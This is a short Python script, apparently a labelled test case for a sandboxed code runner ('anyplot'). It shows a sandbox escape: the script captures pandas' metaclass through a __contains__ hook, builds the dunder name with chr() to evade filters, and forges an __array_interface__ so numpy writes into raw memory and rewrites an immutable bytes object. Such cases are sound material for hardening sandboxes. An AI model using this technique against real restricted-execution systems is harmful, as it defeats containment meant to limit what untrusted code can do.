# class: class_making
# technique: `type(pd.DataFrame) in box` hands the metaclass to box.__contains__ (an allowed special method); the captured `type` makes a class whose __array_interface__ rewrites an immutable bytes object
# goal: memory
import numpy as np
import pandas as pd

captured = []


class Box:
    def __contains__(self, item):
        captured.append(item)
        return True


type(pd.DataFrame) in Box()
Meta = captured[0]
key = chr(95) * 2 + "array_interface" + chr(95) * 2
target = b"anyplot-immutable-value"
Poke = Meta("Poke", (object,), {key: {"data": (id(target) + 32, False), "shape": (len(target),),
                                      "typestr": "|u1", "version": 3}})
window = np.asarray(Poke())
window[:7] = np.frombuffer(b"ESCAPED", dtype=np.uint8)
if not target.startswith(b"ESCAPED"):
    raise RuntimeError("the bytes object did not change")
df = pd.DataFrame({"rewritten": [target.decode()]})
